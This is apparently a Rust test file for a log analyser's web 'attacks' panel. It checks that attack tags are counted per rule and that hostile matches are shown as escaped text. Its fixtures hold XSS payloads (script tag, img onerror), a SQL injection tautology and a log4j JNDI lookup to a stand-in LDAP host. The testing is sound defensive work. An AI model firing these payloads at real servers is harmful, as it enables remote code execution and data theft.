//! The attacks panel in the browser: its rows count the input's attack tags (a line once
//! per rule, an unparsed line with no client), and hostile matches show as text.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::{Value, json};

use super::{Client, pwn, rows};

/// The tags of the hostile client's lines: matches that are markup.
pub(super) fn hostile() -> Value {
    json!([
        {"rule": "xss", "field": "user_agent", "match": format!("<script>{}</script>", pwn("atk-script"))},
        {"rule": "xss", "field": "target", "match": format!("\"><img src=x onerror=\"{}\">", pwn("atk-img"))},
        {"rule": "sql-injection", "field": "target", "match": "' or '1'='1"},
    ])
}

/// A log4j client's tags: the same rule in two fields (one line, counted once).
pub(super) fn jndi() -> Value {
    json!([
        {"rule": "log4j-jndi", "field": "user_agent", "match": "${jndi:ldap://198.51.100.1/a}"},
        {"rule": "log4j-jndi", "field": "referer", "match": "${jndi:ldap://198.51.100.1/a}"},
    ])
}

/// An error record carrying a `raw` tag (a TLS handshake on the HTTP port).
pub(super) const ERROR_LINE: &str = r#"{"line":98,"error":{"column":null,"reason":"expected a method"},"raw":"\u0016\u0003\u0001","attacks":[{"rule":"tls-handshake","field":"raw","match":"\u0016\u0003\u0001"}]}"#;

/// The panel's rows are the input's counts, and its examples are text.
pub(super) fn check(dom: &str, clients: &[Client]) {
    let mut want: BTreeMap<String, (u64, BTreeSet<&str>)> = BTreeMap::new();
    for c in clients {
        let rules: BTreeSet<&str> = c
            .attacks
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|a| a["rule"].as_str())
            .collect();
        for r in rules {
            let e = want.entry(r.to_owned()).or_default();
            e.0 += c.requests.len() as u64;
            e.1.insert(c.ip);
        }
    }
    want.entry("tls-handshake".to_owned()).or_default().0 += 1;
    let want: BTreeMap<String, (u64, u64)> = want
        .into_iter()
        .map(|(k, (r, c))| (k, (r, c.len() as u64)))
        .collect();
    let got: BTreeMap<String, (u64, u64)> = rows(dom, "attacks")
        .into_iter()
        .map(|(l, r, c)| (l, (r, c)))
        .collect();
    assert_eq!(got, want);
    assert_eq!(got.len(), 4, "{got:?}");

    let start = dom.find("id=\"panel-attacks\"").expect("the attacks panel");
    let panel = &dom[start..];
    let panel = &panel[..panel.find("</section>").expect("panel ends")];
    for text in [
        format!(
            "<code>&lt;script&gt;{}&lt;/script&gt;</code>",
            pwn("atk-script")
        ),
        format!(
            "<code>\"&gt;&lt;img src=x onerror=\"{}\"&gt;</code>",
            pwn("atk-img")
        ),
        "<code>${jndi:ldap://198.51.100.1/a}</code>".to_owned(),
        "<code>' or '1'='1</code>".to_owned(),
        "user_agent: ".to_owned(),
        "<code>\\x16\\x03\\x01</code>".to_owned(),
    ] {
        assert!(panel.contains(&text), "not shown as text: {text}\n{panel}");
    }
    assert!(!panel.contains("<img") && !panel.contains("<script"));
}
